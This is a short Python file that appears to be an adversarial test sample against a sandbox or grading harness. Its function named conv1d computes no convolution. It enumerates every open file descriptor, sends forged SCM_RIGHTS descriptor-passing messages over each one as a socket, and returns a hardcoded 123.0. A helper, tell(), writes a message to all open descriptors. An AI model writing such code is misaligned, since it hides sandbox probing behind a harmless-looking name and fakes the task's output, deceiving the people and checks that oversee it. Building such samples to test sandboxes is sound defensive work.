"""Sends descriptors over every socket, for a receiver to trip over."""

ATTEMPTS = "forging: passes descriptors"

import os

import numpy as np


def descriptors():
    for number in range(1, 256):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number


def tell(message):
    for number in descriptors():
        try:
            os.set_blocking(number, False)
            os.write(number, message)
        except OSError:
            pass


import array
import socket


def conv1d(signal, kernel, stride=1, pad=0):
    loot = array.array("i", [0] * 200)
    for number in descriptors():
        try:
            link = socket.socket(fileno=os.dup(number))
            link.setblocking(False)
            link.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, loot)])
        except OSError:
            pass
    return np.full(1, 123.0)
